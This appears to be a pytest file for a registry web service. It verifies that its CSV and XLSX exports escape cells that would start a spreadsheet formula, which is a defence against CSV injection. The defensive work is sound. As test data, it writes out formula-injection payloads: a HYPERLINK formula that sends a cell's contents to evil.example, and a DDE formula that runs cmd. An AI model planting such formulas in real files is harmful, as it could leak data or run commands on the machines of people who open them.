"""Exports are data, not formulas: every CSV and XLSX export, rendered with hostile names,
has no cell a spreadsheet program would run (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from typing import Any

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from registry.accounts.models import Role
from registry.actor import SYSTEM
from registry.events.steps import LotQuantity, record_receiving, record_shipping
from registry.print_runs.service import create_run
from registry.scans.recorder import ScanRecord, write_batch
from registry.spreadsheets import data_cell
from registry.stats.tables import TABLE_NAMES
from service import ratelimit
from tests.factories import (
    PASSWORD,
    actor_of,
    api_headers,
    make_enterprise,
    make_location,
    make_lot,
    make_product,
    make_user,
)

# What spreadsheet programs start a formula with (OWASP), written out here on purpose
# rather than imported from the code under test.
STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Xoài")'
DDE = "=cmd|' /C calc'!A0"
LOCATION = '=1+2*HYPERLINK("http://evil.example")'


def _csv_cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _xlsx_cells(body: bytes) -> list[Any]:
    cells = []
    for sheet in load_workbook(io.BytesIO(body)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


def _assert_data_only(name: str, cells: list[Any]) -> None:
    for value in cells:
        if isinstance(value, str):
            assert not value.startswith(STARTS), (name, value)


def test_the_helper_quotes_text_that_starts_a_formula_and_keeps_numbers() -> None:
    for text in (HYPERLINK, DDE, "+84 912", "-5", "@SUM(A1)", "\t=1", "\r=1"):
        assert data_cell(text) == "'" + text
    for value in (-5, -1.5, Decimal("-2.50"), 0, None, "Xoài =1", "'=already", "8934588012341"):
        assert data_cell(value) == value


def test_every_export_is_data_only_with_hostile_names(
    client: TestClient, db_session: Session
) -> None:
    hostile = make_enterprise(db_session, legal_name=DDE, sector=DDE)
    product = make_product(db_session, enterprise=hostile, name_vi=HYPERLINK)
    lot = make_lot(db_session, product=product, code="-1+1")
    home = make_location(db_session, enterprise=hostile)
    neighbour = make_enterprise(db_session)
    their_place = make_location(db_session, enterprise=neighbour)
    run = create_run(db_session, actor=SYSTEM, lot=lot, count=3, serialized=True, layout="a4-3x7")
    day = dt.datetime.now(dt.UTC) - dt.timedelta(days=1)
    record_shipping(
        db_session,
        actor=actor_of(hostile),
        from_location=home,
        to_gln=their_place.gln,
        lot=LotQuantity(lot, Decimal(5), "KGM"),
        occurred_at=day,
    )
    record_receiving(
        db_session,
        actor=actor_of(neighbour),
        at_location=their_place,
        from_gln=home.gln,
        lot=LotQuantity(lot, Decimal(5), "KGM"),
        occurred_at=day + dt.timedelta(hours=2),
    )
    write_batch(
        db_session,
        [
            ScanRecord(day, product.gtin, lot.code, None, "genuine", f"{n:032d}", "mobile")
            for n in range(3)
        ],
    )
    staff = make_user(db_session, role=Role.agency)
    hostile_key = api_headers(db_session, enterprise=hostile)
    neighbour_key = api_headers(db_session, enterprise=neighbour)
    db_session.flush()
    # The neighbour renames its place to a formula: it lands in the producer's export.
    renamed = client.patch(
        f"/api/v1/locations/{their_place.id}", json={"name": LOCATION}, headers=neighbour_key
    )
    assert renamed.status_code == 200, renamed.text
    ratelimit.reset()
    signed_in = client.post("/api/v1/auth/login", json={"email": staff.email, "password": PASSWORD})
    assert signed_in.status_code == 200, signed_in.text

    exports: dict[str, list[Any]] = {}
    for table in TABLE_NAMES:
        for kind in ("csv", "xlsx"):
            response = client.get(f"/agency/export/{table}.{kind}")
            assert response.status_code == 200, (table, response.text)
            cells = _csv_cells(response.content) if kind == "csv" else _xlsx_cells(response.content)
            exports[f"agency {table}.{kind}"] = cells
    for kind in ("csv", "xlsx"):
        response = client.get(
            "/api/v1/events/export",
            params={"format": kind, "lot_id": lot.id},
            headers=hostile_key,
        )
        assert response.status_code == 200, response.text
        cells = _csv_cells(response.content) if kind == "csv" else _xlsx_cells(response.content)
        exports[f"events.{kind}"] = cells
    response = client.get(f"/api/v1/label-runs/{run.id}/uris.csv", headers=hostile_key)
    assert response.status_code == 200, response.text
    exports["uris.csv"] = _csv_cells(response.content)

    for name, cells in exports.items():
        _assert_data_only(name, cells)
    # The hostile values are there, as text: the checks above saw them.
    for kind in ("csv", "xlsx"):
        assert "'" + HYPERLINK in exports[f"agency top_products.{kind}"]
        assert "'" + DDE in exports[f"agency by_sector.{kind}"]
        assert "'" + LOCATION in exports[f"events.{kind}"]
    assert "'-1+1" in exports["uris.csv"]
    # Numbers stay numbers in XLSX.
    assert any(isinstance(v, int) and v >= 3 for v in exports["agency top_products.xlsx"])
